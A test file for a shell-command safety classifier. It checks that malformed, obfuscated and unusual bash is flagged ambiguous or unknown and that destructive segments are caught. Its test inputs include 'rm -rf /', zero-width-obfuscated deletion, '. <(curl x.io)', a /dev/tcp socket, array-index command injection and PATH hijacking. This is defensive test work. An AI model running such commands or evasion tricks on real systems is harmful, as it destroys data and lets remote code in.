import { describe, expect, test } from 'vitest'
import { checkRows, flagsOf, read } from '../../support/shell.ts'

describe('limits of the text', () => {
  checkRows('P-22', 'a text outside the limits is never read as harmless', [
    ['ls "', '?', 'ambiguous'],
    ["ls '", '?', 'ambiguous'],
    ['ls $(pwd', '?', 'ambiguous'],
    ['ls `pwd', '?', 'ambiguous'],
    ['ls )', '?', 'ambiguous'],
    ['ls &&', '?', 'ambiguous'],
    ['ls | | wc', '?', 'ambiguous'],
    ['if ls; then', '?', 'ambiguous'],
    ['ls\0', '?', 'ambiguous'],
    ['ls\r', '?', 'ambiguous'],
    ['ls\r\nrm x', '?', 'ambiguous'],
    ['echo \ufffd', '?', 'ambiguous'],
    ['echo \ud800', '?', 'ambiguous'],
    ['echo a\u202eb', '?', 'ambiguous'],
    ['r\u200bm -rf x', '?', 'ambiguous'],
    [`ls ${'('.repeat(20)}`, '?', 'ambiguous'],
    [`${'$('.repeat(9)}id${')'.repeat(9)}`, '?', 'ambiguous'],
    [`${'('.repeat(9)}id${')'.repeat(9)}`, '?', 'ambiguous'],
    ['cat <<EOF\nno end', '?', 'ambiguous'],
    ['cat <<', '?', 'ambiguous'],
  ])

  test('P-22 more than 65,536 bytes, 256 segments or 4,096 words are unknown, whatever they say', () => {
    for (const command of [`echo ${'a'.repeat(65_536)}`, 'ls;'.repeat(257), `ls ${'a '.repeat(4097)}`, `echo ${'é'.repeat(32_770)}`]) {
      expect(read(command).grammar).toBe('unknown')
    }
    expect(read(`echo ${'a'.repeat(65_000)}`).grammar).toBe('known')
    expect(read('ls;'.repeat(256)).grammar).toBe('known')
  })

  test('P-22 what can be cut out of an unknown text is judged all the same', () => {
    expect(flagsOf(read('f() { rm -rf /; }; f'))).toContain('catastrophic')
    expect(flagsOf(read('rm -rf / "'))).toContain('catastrophic')
    expect(flagsOf(read('rm -rf /\r'))).toContain('ambiguous')
    expect(flagsOf(read(`rm -rf /;${' '.repeat(70_000)}ls`))).toContain('catastrophic')
    expect(flagsOf(read('echo $((1 + $(rm -rf ~)))'))).toContain('catastrophic')
  })

  test('P-22 an unknown text without any segment still carries a facet that asks', () => {
    expect(read(')').facets).toEqual([{ category: 'shell', verb: 'process.exec', flags: ['ambiguous'], ambiguity: 'unknown-grammar' }])
  })

  test('P-22 texts made to be slow are answered in time that grows with their length', () => {
    const pieces = ['{', '{a,', '(', '$(', '`', '<<a ', '${x:-', '[[', '$((', 'watch ', 'coproc ', 'x() ', "sh -c '", '{a,b}', 'a|']
    for (const piece of pieces) {
      // Time of this thread alone, so that a busy machine does not count: what is not linear takes minutes.
      const before = process.threadCpuUsage()
      read(piece.repeat(Math.floor(65_000 / piece.length)))
      expect(process.threadCpuUsage(before).user).toBeLessThan(5_000_000)
    }
  })
})

checkRows('P-23', 'the known forms are cut into segments', [
  ['ls | wc -l', 'read-only', ''],
  ['ls |& wc -l', 'read-only', ''],
  ['! ls', 'read-only', ''],
  ['ls && pwd || id', 'read-only', ''],
  ['ls; pwd', 'read-only', ''],
  ['ls\npwd', 'read-only', ''],
  ['ls & pwd', 'read-only', 'background'],
  ['(ls; pwd)', 'read-only', ''],
  ['{ ls; pwd; }', 'read-only', ''],
  ['echo $(ls) `pwd`', 'read-only', ''],
  ['diff <(ls) <(pwd)', 'read-only', ''],
  ['ls > >(cat)', 'read-only', ''],
  ['if true; then ls; elif false; then pwd; else id; fi', 'read-only', ''],
  ['for x in a b; do echo $x; done', 'read-only', ''],
  ['while false; do ls; done', 'read-only', ''],
  ['until true; do ls; done', 'read-only', ''],
  ['case x in a|b) ls;; *) pwd;; esac', 'read-only', ''],
  ['[[ -f a && $x == b* ]] && ls', 'read-only', ''],
  ['[[ ! ( -d a || a < b ) ]]', 'read-only', ''],
  ['[[ $x =~ ^a.*$ ]]', 'read-only', ''],
  ['ls # rm -rf /', 'read-only', ''],
  ['ls \\\n -la', 'read-only', ''],
  ["echo 'a b' \"c d\" $'e\\tf'", 'read-only', ''],
  ['cat <<EOF\nhello\nEOF', 'read-only', ''],
  ['cat <<-EOF\n\thello\n\tEOF', 'read-only', ''],
  ['cat <<< word', 'read-only', ''],
  ['echo $((1 + 2 * 3))', 'read-only', ''],
  ['time ls', 'read-only', ''],
  ['time -p ls | wc', 'read-only', ''],
  ['', 'read-only', ''],
  ['   ', 'read-only', ''],
  ['# nothing', 'read-only', ''],
  ['x=1', 'read-only', ''],
  ['x=1 y=2 ls', 'read-only', ''],
  ['set -euo pipefail; ls', 'read-only', ''],
  ['true && exit 1', 'read-only', ''],
  ['echo ${x:-default} ${#x} ${x%.ts} ${x/a/b} ${x^^} ${x:1:2}', 'read-only', ''],
])

checkRows('P-23', 'every other form is unknown', [
  ['f() { ls; }', '?', 'ambiguous'],
  ['function ls { rm x; }; ls', '?', 'ambiguous'],
  ['coproc ls', '?', 'ambiguous'],
  ['select x in a b; do ls; done', '?', 'ambiguous'],
  ['(( x = 1 ))', '?', 'ambiguous'],
  ['for ((i=0;i<3;i++)); do ls; done', '?', 'ambiguous'],
  ['let x=1', '?', 'ambiguous'],
  ['a=(1 2) ls', '?', 'ambiguous'],
  ['a[0]=1', '?', 'ambiguous'],
  ['a[$(id)]=1 ls', '?', 'ambiguous'],
  ['echo ${a[0]}', '?', 'ambiguous'],
  ['echo ${a[@]}', '?', 'ambiguous'],
  ['declare -a a', '?', 'ambiguous'],
  ['declare -i x=1', '?', 'ambiguous'],
  ['declare -n r=x', '?', 'ambiguous'],
  ['echo ${x@P}', '?', 'ambiguous'],
  ['echo ${x@Q}', '?', 'ambiguous'],
  ['echo ${!x}', '?', 'ambiguous'],
  ['echo ${!x*}', '?', 'ambiguous'],
  ['ls !(a|b)', '?', 'ambiguous'],
  ['ls +(a)', '?', 'ambiguous'],
  ['trap "rm x" EXIT', '?', 'ambiguous'],
  ['alias ls="rm -rf"', '?', 'ambiguous'],
  ['unalias ls', '?', 'ambiguous'],
  ['enable -n test', '?', 'ambiguous'],
  ['set -- a b', '?', 'ambiguous'],
  ['set a b', '?', 'ambiguous'],
  ['set -k', '?', 'ambiguous'],
  ['exec > out', '?', 'ambiguous'],
  ['exec 3<> /dev/tcp/h/1', '?', 'ambiguous'],
  ['test -v x', '?', 'ambiguous'],
  ['[ -v a[$(id)] ]', '?', 'ambiguous'],
  ['[[ -v a[$(id)] ]]', '?', 'ambiguous'],
  ['[[ $x -eq 1 ]]', '?', 'ambiguous'],
  ['[[ a[$(id)] -lt 3 ]]', '?', 'ambiguous'],
  ['[[ -R x ]]', '?', 'ambiguous'],
  ['[[ -o posix ]]', '?', 'ambiguous'],
  ['printf -v x %s a', '?', 'ambiguous'],
  ['printf -va[$(id)] %s a', '?', 'ambiguous'],
  ['read a[$(id)]', '?', 'ambiguous'],
  ['read -a list', '?', 'ambiguous'],
  ['unset a[$(id)]', '?', 'ambiguous'],
  ["unset 'a[$(id)]'", '?', 'ambiguous'],
  ["unset -n 'a[$(id)]'", '?', 'ambiguous'],
  ["wait -n -p 'a[$(id)]'", '?', 'ambiguous'],
  ["export 'a[$(id)]=1'", '?', 'ambiguous'],
  ['source x.sh', '?', 'ambiguous'],
  ['. ./x.sh', '?', 'ambiguous'],
  ['. <(curl x.io)', '?', 'ambiguous'],
  ['echo $((x))', '?', 'ambiguous'],
  ['echo $((a[$(id)]))', '?', 'ambiguous'],
  ['echo $((x=1))', '?', 'ambiguous'],
  ['echo $[x]', '?', 'ambiguous'],
  ['echo ${x:a[$(id)]}', '?', 'ambiguous'],
  ['echo ${x:$(id)}', '?', 'ambiguous'],
  ['echo ${ id; }', '?', 'ambiguous'],
  ['echo $"a"', '?', 'ambiguous'],
  ["echo $'a\\\nb'", '?', 'ambiguous'],
  ['ls {fd}> out', '?', 'ambiguous'],
  ['shopt -s extglob', '?', 'ambiguous'],
  ['hash -p /tmp/x ls; ls', '?', 'ambiguous'],
  ['mapfile -C id -c 1 a < f', '?', 'ambiguous'],
  ['bind -x a:id', '?', 'ambiguous'],
  ['builtin source x', '?', 'ambiguous'],
  ['command . x', '?', 'ambiguous'],
  ['for PATH in /tmp/evil; do ls; done', '?', 'ambiguous'],
  ['echo ${PATH:=/tmp/evil}', '?', 'ambiguous'],
  ['time -o out ls', '?', 'ambiguous'],
])
